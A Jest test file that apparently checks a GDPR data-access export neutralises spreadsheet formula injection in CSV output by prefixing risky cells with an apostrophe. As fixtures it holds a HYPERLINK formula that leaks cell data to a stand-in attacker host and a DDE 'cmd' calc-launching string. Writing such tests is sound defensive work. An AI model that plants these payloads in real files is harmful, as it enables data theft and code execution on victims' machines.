/**
 * The access export's CSV (Art. 15/20) goes to the person, who opens it in a spreadsheet: a
 * value of theirs that begins like a formula (a street `=HYPERLINK(...)`, typed into a web form
 * years ago) must open as text, as in the Open Data release's CSV (lib/opendata/publish/csv.ts).
 * End to end: raw export -> pipeline -> warehouse (encrypted) -> access request -> CSV files.
 */
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import { PERSONAL_DATA_STAGES, rightsContext, runPipelineWithPrivacy } from "../../lib/cli/rights";
import type { PipelineConfig } from "../../lib/cli/config";
import { openKeyStore } from "../../lib/privacy/keystore";
import { RAW_HEADER } from "../../lib/raw/contract";
import { generateRawExport } from "../../lib/raw/generator";
import { loadProfile } from "../../lib/raw/profile";
import { accessCsv, accessRequest, writeAccessExport } from "../../lib/rights/access";
import { saleRow } from "../helpers/rawCsv";

jest.setTimeout(600_000);

const STREET = '=HYPERLINK("http://attacker.example/?leak="&A1,"Mes commandes")';
const CITY = "@SUM(1+1)";

test("a customer whose street starts with '=': the access export's CSV holds it as text, the JSON as stored", async () => {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), "rights-csv-"));
  try {
    const input = path.join(root, "export.csv");
    await generateRawExport({ outPath: input, rows: 2000, seed: 7, writeSummary: false });
    // One more customer, with the payloads, appended as a well-formed row of the contract.
    const row = saleRow({ order_id: "OINJECT1", customer_id: "C990001", email: "injection.test@example.fr", street: STREET, city: CITY, order_date: "2023-04-05" });
    fs.appendFileSync(input, stringify([RAW_HEADER.map((c) => row[c] ?? "")]));

    const keyStore = openKeyStore({ dir: path.join(root, "keys"), log: () => {} });
    const outputs = path.join(root, "outputs");
    const cfg: PipelineConfig = {
      input,
      profile: loadProfile("default"),
      stagingDir: path.join(outputs, "staging"),
      warehouseDir: path.join(outputs, "warehouse"),
      opendataDir: path.join(outputs, "opendata"),
      reportsDir: path.join(root, "reports"),
      log: () => {},
      keyStore: () => keyStore,
    };
    await runPipelineWithPrivacy(cfg, keyStore, { stages: PERSONAL_DATA_STAGES });

    const answer = await accessRequest(rightsContext(cfg, "test-dpo", keyStore), "C990001");
    expect(answer.status).toBe("answered");
    const out = path.join(root, "answer");
    writeAccessExport(answer, out);

    const json = JSON.parse(fs.readFileSync(path.join(out, "access.json"), "utf8"));
    const current = json.customers[0].versions.find((v: { isCurrent: boolean }) => v.isCurrent);
    // Held as the cleansing left it (its case rules are the cleansing's business), formula included.
    const street: string = current.personalData.street;
    expect(street.toLowerCase()).toBe(STREET.toLowerCase());
    const city: string = current.personalData.city;
    expect(city.toLowerCase()).toBe(CITY.toLowerCase());

    const personal = parse(fs.readFileSync(path.join(out, "personal-data.csv"), "utf8"), { columns: true }) as Record<string, string>[];
    expect(personal.length).toBeGreaterThan(0);
    for (const r of personal) {
      expect(r.street).toBe(`'${street}`);
      expect(r.city).toBe(`'${city}`);
    }
    // No cell of either file starts with a formula trigger.
    for (const file of ["personal-data.csv", "orders.csv"]) {
      const records = parse(fs.readFileSync(path.join(out, file), "utf8")) as string[][];
      const [header, ...body] = records;
      for (const record of body) {
        record.forEach((cell, i) => {
          const numeric = ["customer", "version", "line_number", "quantity", "unit_price", "discount_rate", "net_amount", "freight_allocated"].includes(header[i]);
          const trigger = numeric ? !/^(-?\d+(\.\d+)?)?$/.test(cell) : /^[=+\-@\t\r]/.test(cell);
          expect({ file, column: header[i], cell, trigger }).toEqual({ file, column: header[i], cell, trigger: false });
        });
      }
    }
  } finally {
    fs.rmSync(root, { recursive: true, force: true });
  }
});

test("numbers stay numbers: a return's negative amount is not prefixed; a text beginning with '-' or '+' is", () => {
  const csv = accessCsv([{ net_amount: "-12.50", quantity: -1, street: "-2+3+cmd|' /C calc'!A0", phone: "+33123456789", city: "Lyon" }]);
  expect(parse(csv, { columns: true })).toEqual([{ net_amount: "-12.50", quantity: "-1", street: "'-2+3+cmd|' /C calc'!A0", phone: "'+33123456789", city: "Lyon" }]);
});
